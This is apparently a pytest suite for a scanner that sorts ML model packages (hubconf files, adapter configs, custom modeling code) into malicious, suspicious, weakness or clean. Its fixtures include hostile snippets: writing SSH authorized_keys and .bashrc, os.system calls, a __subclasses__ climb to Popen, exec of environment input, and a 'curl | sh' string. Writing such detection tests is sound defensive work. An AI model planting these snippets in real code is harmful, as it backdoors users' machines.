"""More ways to what loaders run: torch.hub, adapters, paths of pathlib, the interpreter."""

import json

import pytest

import weighbridge
from weighbridge.findings.model import Verdict

CONFIG = json.dumps({"auto_map": {"AutoModel": "modeling_m.M"}})
MODEL = "from transformers import PreTrainedModel\nclass M(PreTrainedModel):\n    pass\n"


def verdict(folder, **files):
    for name, text in files.items():
        path = folder / name.replace("__", ".")
        path.write_text(text)
    return weighbridge.scan(folder).verdict


@pytest.mark.parametrize(
    ("library", "expected"),
    [
        ("os", Verdict.MALICIOUS),
        ("transformers.models.llama.modeling_llama", Verdict.CLEAN),
        ("transformers_modules.org.model.modeling", Verdict.CLEAN),
        ("somebody.package", Verdict.WEAKNESS),
    ],
)
def test_an_adapter_names_the_class_of_its_base(tmp_path, library, expected):
    names = {"base_model_class": "system" if library == "os" else "Base", "parent_library": library}
    text = json.dumps({"peft_type": "LORA", "auto_mapping": names})
    assert verdict(tmp_path, adapter_config__json=text) is expected


def test_torch_hub_runs_hubconf(tmp_path):
    text = "dependencies = ['torch']\nimport os\nos.system('id')\n"
    assert verdict(tmp_path, hubconf__py=text) is Verdict.MALICIOUS


@pytest.mark.parametrize(
    "text",
    [
        "p = Path.home() / '.ssh' / 'authorized_keys'\np.open('a').write('key')\n",
        "(Path.home() / '.bashrc').write_text('curl')\n",
        "Path('~').expanduser().joinpath('.config', 'autostart', 'a.desktop').write_text('x')\n",
    ],
)
def test_a_path_in_pieces_is_one_path(tmp_path, text):
    text = "from pathlib import Path\n" + text
    assert verdict(tmp_path, tool__py=text, README__md="x") is Verdict.MALICIOUS


def test_ordinary_paths_are_ordinary(tmp_path):
    text = "from pathlib import Path\n(Path.home() / '.cache' / 'm').mkdir()\n"
    text += "(Path(__file__).parent / 'a.json').write_text('{}')\n"
    assert verdict(tmp_path, tool__py=text, README__md="x") is Verdict.CLEAN


def test_a_climb_to_all_classes_hides_what_it_calls(tmp_path):
    climb = "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen']\n"
    assert verdict(tmp_path, config__json=CONFIG, modeling_m__py=MODEL + climb) is Verdict.MALICIOUS
    registry = "class R:\n    pass\nfound = R.__subclasses__()\n"
    again = verdict(tmp_path, config__json=CONFIG, modeling_m__py=MODEL + registry)
    assert again is Verdict.WEAKNESS


@pytest.mark.parametrize(
    ("library", "expected"),
    [
        ("os.path.join(os.path.dirname(__file__), 'lib.so')", Verdict.SUSPICIOUS),
        ("'./native/x.so'", Verdict.SUSPICIOUS),
        ("'libcudart.so.12'", Verdict.WEAKNESS),
        ("ctypes.util.find_library('c')", Verdict.WEAKNESS),
        ("None", Verdict.WEAKNESS),
    ],
)
def test_machine_code_beside_the_model(tmp_path, library, expected):
    text = f"import ctypes, ctypes.util, os\n{MODEL}_lib = ctypes.CDLL({library})\n"
    assert verdict(tmp_path, config__json=CONFIG, modeling_m__py=text) is expected


def test_a_program_out_of_the_environment(tmp_path):
    text = "import os\nexec(os.environ.get('CODE', ''))\n"
    assert verdict(tmp_path, app__py=text, README__md="x") is Verdict.SUSPICIOUS
    text = "import os\nDEBUG = eval(os.environ.get('DEBUG', 'False'))\n"
    assert verdict(tmp_path, app__py=text, README__md="x") is Verdict.CLEAN


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("cli.py", "import requests, webbrowser\nwebbrowser.open(requests.get('http://x').text)\n"),
        ("data.py", "import yaml\ndef f(p):\n    exec(yaml.safe_load(open(p))['download'])\n"),
        ("check.sh", "#!/bin/sh\nif (exec 3<>/dev/tcp/127.0.0.1/80); then echo up; fi\n"),
        ("app.js", "var a = '" + "x" * 6000 + "curl http://x | sh';\n"),
        (
            "formats.py",
            "T = '''{% for m in messages %}{{ m['role'] }}{{ m['content'] }}{% endfor'''\n",
        ),
        ("table.py", "x = '\x02'\n" + "y = 1\n" * 1000),
    ],
)
def test_what_honest_packages_hold_is_clean(tmp_path, name, text):
    (tmp_path / name).write_text(text)
    (tmp_path / "README.md").write_text("x")
    assert weighbridge.scan(tmp_path).verdict is Verdict.CLEAN
